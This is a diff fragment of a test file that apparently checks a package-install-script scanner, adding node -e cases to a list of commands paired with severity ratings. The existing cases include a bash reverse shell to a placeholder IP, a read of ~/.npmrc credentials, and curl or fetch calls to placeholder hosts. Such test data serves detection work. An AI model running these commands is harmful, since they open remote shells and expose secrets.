@@ -46,6 +46,9 @@ def look(ecosystem: Ecosystem, files: dict[str, str], *, url: str | None = None)
         ("echo aGk= | base64 -d", Severity.CRITICAL),
         ("bash -i >& /dev/tcp/203.0.113.9/1 0>&1", Severity.CRITICAL),
         ("cat ~/.npmrc", Severity.CRITICAL),
+        ('node -e "process.exit(0)"', Severity.LOW),
+        ("node -e \"try{require('./postinstall')}catch(e){}\"", Severity.LOW),
+        ("node -e \"require('./x');fetch('https://x.invalid')\"", Severity.CRITICAL),
         ("husky && curl https://files.invalid/x", Severity.CRITICAL),
     ],
 )
